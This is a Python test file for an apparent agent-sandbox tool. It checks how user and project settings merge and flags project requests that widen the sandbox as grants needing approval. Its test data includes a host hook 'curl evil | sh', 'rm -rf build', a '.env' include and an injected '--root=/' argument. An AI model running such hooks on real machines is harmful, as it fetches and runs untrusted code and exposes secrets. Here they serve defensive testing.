"""Settings: the user's file and the project's as one, and what of it widens."""

from __future__ import annotations

import os

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leeward.apps.agents.errors import SettingsError
from leeward.apps.agents.reading import MAX_FILE, parse_settings, read_project_file, read_user_file
from leeward.apps.agents.settings import KEYS, KINDS, Grant, load_settings, merge_tables, merged_settings
from leeward.spec import writers

MINE, THEIRS = "/home/me/.config/leeward/agents.toml", "/p/.leeward/agent.toml"
ENVIRON = {"HOME": "/home/me", "TOKEN": "s3cret", "LIB": "/opt/lib", "NESTED": "$TOKEN"}


def settings(mine="", theirs="", environ=ENVIRON):
    return merged_settings(parse_settings(mine.encode(), MINE), parse_settings(theirs.encode(), THEIRS), MINE, THEIRS,
                           "/p", environ)


def test_without_files_the_defaults_hold():
    found = settings()

    assert () == found.allow
    assert () == found.widening
    assert () == found.warnings
    assert "" == found.project_at


def test_arguments_of_an_agent_follow_each_other_and_a_projects_are_a_grant():
    mine = '[agents.claude]\narguments = ["--model", "opus", "--add-dir", "a b"]\n'
    theirs = '[agents.claude]\narguments = ["--add-dir", "a b"]\n[agents.codex]\narguments = ["--no-alt-screen"]\n'
    assert {"claude": ("--model", "opus", "--add-dir", "a b")} == settings(mine).arguments
    assert () == settings(mine).widening
    found = settings(mine, theirs)
    assert {"claude": ("--model", "opus", "--add-dir", "a b", "--add-dir", "a b"),
            "codex": ("--no-alt-screen",)} == found.arguments
    assert (Grant("argument", "claude --add-dir 'a b'"), Grant("argument", "codex --no-alt-screen")) == found.widening


@pytest.mark.parametrize(("text", "why"), [
    ("agents = 1", "must be a table"), ('[agents.claude]\nargs = ["a"]', "`arguments` alone"),
    ('[agents."a b"]\narguments = []', "isn't the name"), ('[agents.claude]\narguments = "a"', "must be an array")])
def test_what_is_no_table_of_an_agent_is_refused(text, why):
    with pytest.raises(SettingsError, match=why):
        settings(text)


def test_tables_are_merged_scalars_replaced_and_arrays_appended():
    found = settings("""
        libraries = ["~/lib:/lib1"]
        environment = { A = "mine", B = "mine" }
        [files]
        exclude = ["a", "b"]
        [network]
        allow = ["one.example.org", "two.example.org"]
        [limits]
        memory = "4G"
        processes = 100
        """, """
        libraries = ["sub:/lib2:rw"]
        environment = { B = "theirs" }
        [files]
        exclude = ["b", "c"]
        [network]
        allow = ["TWO.example.org.", "three.example.org"]
        [limits]
        memory = "2G"
        """)

    assert ["a", "b", "c"] == [each.text for each in found.exclude]
    assert ["one.example.org", "two.example.org", "three.example.org"] == [rule.text for rule in found.allow]
    assert ["/home/me/lib:/lib1", "/p/sub:/lib2:rw"] == [each.text for each in found.libraries]
    assert {"A": "mine", "B": "theirs"} == found.environment
    assert {"memory": 2 << 30, "processes": 100} == found.limits


def test_hooks_keep_their_order():
    found = settings('[hooks]\nsetup_host = ["b", "a"]\nsetup = "one"', '[hooks]\nsetup_host = ["c", "a"]\n'
                     'cleanup_host = ["z", "y"]\nprestart = "x\\ny"')

    assert ("b", "a", "c") == found.hooks.setup_host
    assert ("one",) == found.hooks.setup
    assert ("z", "y") == found.hooks.cleanup_host
    assert ("x\ny",) == found.hooks.prestart


@pytest.mark.parametrize(("mine", "theirs", "said"), [
    ('libraries = ["/a"]', 'libraries = "/a"', "is a text, and in /home/me/.config/leeward/agents.toml an array"),
    ('[files]\nexclude = []', 'files = []', "is an array, and in /home/me/.config/leeward/agents.toml a table"),
    ('[limits]\nmemory = 1', '[limits]\nmemory = "1G"', "is a text, and in /home/me"),
    ('[git]\nworktree_links = true', '[git]\nworktree_links = 1', "is a number, and in /home/me"),
])
def test_a_clash_of_kinds_names_both_files(mine, theirs, said):
    with pytest.raises(SettingsError) as error:
        settings(mine, theirs)

    assert said in str(error.value)
    assert str(error.value).startswith(THEIRS)


@pytest.mark.parametrize(("text", "said"), [
    ("libaries = []", "libaries: unknown; did you mean libraries?"),
    ("[network]\nalow = []", "network.alow: unknown; did you mean network.allow?"),
    ("[hooks]\npre_start = []", "hooks.pre_start: unknown; did you mean hooks.prestart?"),
    ("zzzzzz = 1", "zzzzzz: unknown; there are files, libraries"),
    ("[git]\nzzzzzz = 1", "git.zzzzzz: unknown; there are git.worktree_links"),
    ("network = 1", "network: must be a table"),
    ("libraries = 1", "libraries: must be an array"),
    ("libraries = [1]", "libraries: item 0: must be a text"),
    ('libraries = [""]', "libraries: item 0: must not be empty"),
    ('libraries = ["a:b:c:rw"]', "PATH[:MOUNT][:rw]"),
    ('libraries = ["/proc"]', "/proc is never shown"),
    ('libraries = ["/a:../b"]', "an absolute path"),
    ('libraries = ["/etc/passwd"]', "/etc is the sandbox's own; choose another place"),
    ('libraries = ["/etc/passwd"]', "as in /etc/passwd:/opt/passwd"),
    ('libraries = ["/srv/x:/usr/x"]', "/usr is the sandbox's own"),
    ('libraries = ["/srv/x:/tmp"]', "/tmp is the sandbox's own"),
    ('libraries = ["../../../../../.."]', "/ is never shown"),
    ("environment = []", "environment: must be a table"),
    ('environment = { "A-B" = "x" }', "the name of a variable"),
    ("environment = { A = 1 }", "must be a text"),
    ('environment = { A = "\\u0000" }', "no character 0"),
    ("[limits]\nmemory = 1", "at least 1 MiB"),
    ('[limits]\nmemory = "x"', "must be a size"),
    ('[limits]\nmemory = true', "must be bytes"),
    ('[limits]\ntimeout = "3 years"', "must be seconds"),
    ("[limits]\ntimeout = nan", "must be seconds"),
    ("[limits]\ntimeout = -1", "must be seconds"),
    ("[limits]\nprocesses = 0", "from 1"),
    ("[limits]\nprocesses = 1.5", "a whole number"),
    ('dependencies = ["--root=/"]', "name of a Debian package"),
    ('dependencies = ["a b"]', "name of a Debian package"),
    ("[hooks]\nsetup_host = [1]", "must be a text"),
    ('[files]\nexclude = ["../x"]', "leads out of the project"),
    ('[files]\nexclude = ["**"]', "matches everything"),
    ('[files]\nexclude = ["a/**b"]', "whole names"),
    ('[project]\nat = "work"', "an absolute path"),
    ('[project]\nat = "/a/../b"', "an absolute path"),
    ('[network]\nallow = ["*.com"]', "public suffix"),
    ('[network]\nallow = ["a:1,2,3,4,5,6,7", "b:8,9"]', "9 ports, but a sandbox can have 8"),
    ("x = ", "isn't TOML"),
    ("a.b.c.d.e.f.g.h.i = 1", "within each other"),
    ("a = " + "[" * 60 + "]" * 60, "within each other"),
])
def test_an_unusable_setting_says_why(text, said):
    with pytest.raises(SettingsError) as error:
        settings(theirs=text)

    assert said in str(error.value)
    assert str(error.value).startswith(THEIRS)
    assert str(error.value).isprintable()


def test_variables_are_put_in_once():
    found = settings("environment = { A = \"$TOKEN-${TOKEN}\", B = \"$NESTED\", C = \"$NOT_SET ${NOT_SET}\","
                     " D = \"$$TOKEN $ ${ $1\" }")

    assert {"A": "s3cret-s3cret", "B": "$TOKEN", "C": "$NOT_SET ${NOT_SET}", "D": "$TOKEN $ ${ $1"} == found.environment
    assert (f"{MINE}: environment.C: $NOT_SET isn't set, and isn't expanded",) == found.warnings


def test_paths_are_of_the_home_and_the_project():
    found = settings('libraries = ["a", "~/b", "$LIB", "~other"]', 'libraries = ["a", "~", "./x/../y"]')

    assert ["/home/me/a", "/home/me/b", "/opt/lib", "/home/me/~other", "/p/a", "/home/me", "/p/y"] == [
        each.source for each in found.libraries]


def test_requests_of_the_project_beyond_the_users_are_grants():
    found = settings("""
        libraries = ["/opt/lib"]
        [network]
        allow = ["mine.example.org"]
        [hooks]
        setup_host = ["make"]
        [limits]
        memory = "2G"
        processes = 50
        """, """
        libraries = ["/opt/lib", "/opt/more", "/opt/lib:/opt/lib:rw"]
        environment = { A = "plain", B = "$TOKEN", C = "$NOT_SET", D = "$HOME" }
        [files]
        exclude = ["x"]
        include = [".env"]
        [network]
        allow = ["MINE.example.org", "theirs.example.org:22"]
        [hooks]
        setup_host = ["make", "curl evil | sh"]
        setup = "inside"
        prestart = ["inside"]
        cleanup_host = ["rm -rf build"]
        [limits]
        memory = "4G"
        processes = 40
        timeout = "1h"
        [git]
        worktree_links = true
        """)

    assert {
        Grant("setup_host", "curl evil | sh"), Grant("cleanup_host", "rm -rf build"),
        Grant("library", "/opt/more as /opt/more"), Grant("library_rw", "/opt/lib as /opt/lib"),
        Grant("include", ".env"), Grant("host", "theirs.example.org:22"), Grant("variable", "TOKEN"),
        Grant("environment", "A=plain"), Grant("environment", "B=$TOKEN"), Grant("environment", "C=$NOT_SET"),
        Grant("environment", "D=$HOME"),
        Grant("limit", f"memory = {4 << 30}"), Grant("limit", "timeout = 3600"),
        Grant("worktree", "git's folder, also for commits"),
    } == set(found.widening)


def test_a_project_cant_send_the_agents_account_elsewhere_unasked():
    """Without TLS, to a host that is allowed anyway; and over a variable of the user's."""
    found = settings('environment = { ANTHROPIC_BASE_URL = "https://proxy.example.org" }',
                     'environment = { ANTHROPIC_BASE_URL = "http://api.anthropic.com" }')

    assert (Grant("environment", "ANTHROPIC_BASE_URL=http://api.anthropic.com"),) == found.widening
    assert () == settings('environment = { A = "1" }', 'environment = { A = "1" }').widening


def test_settings_of_the_user_are_no_grants():
    whole = '[network]\nallow = ["a.example.org"]\n[hooks]\nsetup_host = ["x"]\n[limits]\nmemory = "1G"'

    assert () == settings(whole).widening
    assert () == settings(whole, whole).widening


#: Of each key that may widen, a value that does. The others can't, with the reason.
WIDENING = {
    "libraries": 'libraries = ["/opt/x"]', "files.include": '[files]\ninclude = ["x"]',
    "network.allow": '[network]\nallow = ["x.example.org"]', "limits.memory": '[limits]\nmemory = "1G"',
    "limits.processes": "[limits]\nprocesses = 1", "limits.descriptors": "[limits]\ndescriptors = 16",
    "limits.files": '[limits]\nfiles = "1G"', "limits.timeout": "[limits]\ntimeout = 1",
    "hooks.setup_host": '[hooks]\nsetup_host = "x"', "hooks.cleanup_host": '[hooks]\ncleanup_host = "x"',
    "git.worktree_links": "[git]\nworktree_links = true",
    "agents": "[agents.claude]\narguments = [\"--x\"]",
    "dependencies": 'dependencies = ["jq"]', "environment": 'environment = { A = "1" }',
}
HARMLESS = {
    "files.exclude": "it hides", "hooks.setup": "it runs inside", "hooks.prestart": "it runs inside",
    "project.at": "where the project is inside",
}


def _leaves(keys, place=""):
    for name, check in keys.items():
        yield from _leaves(check, f"{place}{name}.") if isinstance(check, dict) else [place + name]


def test_every_key_is_declared_to_widen_or_not():
    assert {*WIDENING, *HARMLESS} == set(_leaves(KEYS))


@pytest.mark.parametrize("key", WIDENING)
def test_a_key_that_widens_is_a_grant(key):
    grants = settings(theirs=WIDENING[key]).widening

    assert 1 == len(grants)
    assert grants[0].kind in KINDS


VALUES = st.recursive(st.booleans() | st.integers() | st.text(max_size=3), lambda inner: st.lists(inner, max_size=3)
                      | st.dictionaries(st.sampled_from("abc"), inner, max_size=3), max_leaves=8)
TABLES = st.dictionaries(st.sampled_from("abc"), VALUES, max_size=3)


@given(TABLES, TABLES)
def test_merging_keeps_every_key_of_the_later_table(first, second):
    """Keys of the second are in the result, and keys that it doesn't have are the first's; or kinds clash."""
    before = repr(first), repr(second)
    try:
        merged = merge_tables(first, second, "first", "second")
    except SettingsError as caught:
        text = str(caught)
    else:
        text = ""
        _check_merged(first, second, merged)
    assert not text or ("first" in text and text.startswith("second"))
    assert before == (repr(first), repr(second))


def _check_merged(first, second, merged):
    assert {*first, *second} == set(merged)
    for key, value in merged.items():
        if key not in second:
            assert value == first[key]
        elif key not in first or not isinstance(value, (dict, list)):
            assert value == second[key]
        elif isinstance(value, dict):
            _check_merged(first[key], second[key], value)
        else:
            assert all(any(item is each or repr(item) == repr(each) for each in value) for item in second[key])
            assert len({(type(each), repr(each)) for each in value}) == len(value)


@given(TABLES)
def test_merging_a_table_with_an_empty_one_changes_no_scalar(table):
    assert table == merge_tables({}, table, "a", "b")
    assert table == merge_tables(table, {}, "a", "b")


@given(st.binary(max_size=200))
def test_any_bytes_are_a_table_or_one_error(content):
    try:
        table = parse_settings(content, "/f")
    except SettingsError as caught:
        assert str(caught).isprintable()  # noqa: PT017  (bytes that are TOML are as good)
    else:
        assert isinstance(table, dict)


class Project:
    def __init__(self, folder):
        self.folder = folder
        (folder / ".leeward").mkdir()
        self.file = folder / ".leeward" / "agent.toml"
        self.descriptor = os.open(folder, os.O_PATH | os.O_DIRECTORY)

    def read(self):
        return read_project_file(self.descriptor, str(self.file))


@pytest.fixture
def project(tmp_path):
    made = Project(tmp_path)
    yield made
    os.close(made.descriptor)


def test_a_project_without_settings_has_none(project):
    assert project.read() is None
    project.file.parent.rmdir()
    assert project.read() is None


def test_a_project_has_its_settings(project):
    project.file.write_text("a = 1")

    assert {"a": 1} == project.read()


def _link(project):
    (project.folder / "real").write_text("a = 1")
    project.file.symlink_to("../real")


def _link_of_folder(project):
    project.file.parent.rmdir()
    (project.folder / "real").mkdir()
    (project.folder / "real" / "agent.toml").write_text("a = 1")
    project.file.parent.symlink_to("real")


def _fifo(project):
    os.mkfifo(project.file)


def _device(project):
    os.symlink("/dev/zero", project.file)


def _folder(project):
    project.file.mkdir()


def _huge(project):
    with open(project.file, "wb") as file:
        file.truncate(1 << 40)


def _large(project):
    project.file.write_bytes(b"#" * (MAX_FILE + 1))


def _bytes(project):
    project.file.write_bytes(b"\xff\xfe")


def _file_for_folder(project):
    project.file.parent.rmdir()
    project.file.parent.write_text("")


@pytest.mark.parametrize(("make", "said"), [
    (_link, "is a link"), (_link_of_folder, "isn't in a folder"), (_fifo, "no regular file"), (_device, "is a link"),
    (_folder, "no regular file"), (_huge, "more than"), (_large, "more than"), (_bytes, "UTF-8"),
    (_file_for_folder, "isn't in a folder"),
])
@pytest.mark.timeout(10)
def test_a_hostile_project_file_is_refused(project, make, said):
    make(project)

    with pytest.raises(SettingsError, match=said):
        project.read()


def test_a_users_file_may_be_a_link_but_no_fifo(tmp_path):
    assert read_user_file(str(tmp_path / "none")) is None
    (tmp_path / "real").write_text("a = 1")
    (tmp_path / "real").chmod(0o600)
    (tmp_path / "link").symlink_to("real")
    assert {"a": 1} == read_user_file(str(tmp_path / "link"))
    os.mkfifo(tmp_path / "fifo")
    with pytest.raises(SettingsError, match="no regular file"):
        read_user_file(str(tmp_path / "fifo"))


@pytest.mark.parametrize("mode", [0o620, 0o602, 0o666])
def test_a_users_file_that_others_can_write_is_refused(tmp_path, mode, monkeypatch):
    (tmp_path / "file").write_text("a = 1")
    (tmp_path / "file").chmod(mode)
    monkeypatch.setattr(writers, "_has_owner_alone", lambda group, owner: False)
    with pytest.raises(SettingsError, match=f"its mode {mode:04o} lets others write it; chmod go-w"):
        read_user_file(str(tmp_path / "file"))
    monkeypatch.setattr("leeward.apps.agents.reading.OURS", str(tmp_path))
    assert {"a": 1} == read_user_file(str(tmp_path / "file"))  # as pip may leave the package's own


def test_a_users_file_of_another_user_is_refused(tmp_path, monkeypatch):
    (tmp_path / "file").write_text("a = 1")
    (tmp_path / "file").chmod(0o644)
    owner = os.stat(tmp_path / "file").st_uid
    monkeypatch.setattr(os, "geteuid", lambda: owner + 1)
    if owner:  # root's files are everybody's
        with pytest.raises(SettingsError, match=f"belongs to user {owner}; it must be yours or root's"):
            read_user_file(str(tmp_path / "file"))
    else:
        assert {"a": 1} == read_user_file(str(tmp_path / "file"))


def test_the_files_are_found(project, tmp_path_factory):
    config = tmp_path_factory.mktemp("config")
    (config / "agents.toml").write_text('libraries = ["lib"]')
    (config / "agents.toml").chmod(0o600)
    project.file.write_text('libraries = ["lib"]')

    found = load_settings(project.descriptor, str(project.folder), str(config), {"HOME": "/home/me"})

    assert ["/home/me/lib", f"{project.folder}/lib"] == [each.source for each in found.libraries]


def test_the_project_is_the_one_that_was_opened(project, tmp_path):
    """A folder that is swapped for a link afterwards isn't looked at."""
    project.file.write_text('[network]\nallow = ["opened.example.org"]')
    other = tmp_path.with_name(tmp_path.name + "-other")
    (other / ".leeward").mkdir(parents=True)
    (other / ".leeward" / "agent.toml").write_text('[network]\nallow = ["swapped.example.org"]')
    tmp_path.rename(tmp_path.with_name(tmp_path.name + "-moved"))
    tmp_path.symlink_to(other)

    found = load_settings(project.descriptor, str(tmp_path), "/none", {})

    assert ["opened.example.org"] == [rule.text for rule in found.allow]


def test_a_library_that_is_a_link_is_named_by_its_target(tmp_path):
    """The path that a person accepts is the one that is shown to the agent."""
    (tmp_path / "keys").mkdir()
    (tmp_path / "vendor").symlink_to("keys")
    found = merged_settings({}, {"libraries": ["vendor", "vendor/../keys:/k"]}, MINE, THEIRS, str(tmp_path), ENVIRON)

    assert {f"{tmp_path}/keys as {tmp_path}/vendor", f"{tmp_path}/keys as /k"} == {each.what for each in found.widening}
    assert {f"{tmp_path}/keys"} == {each.source for each in found.libraries}
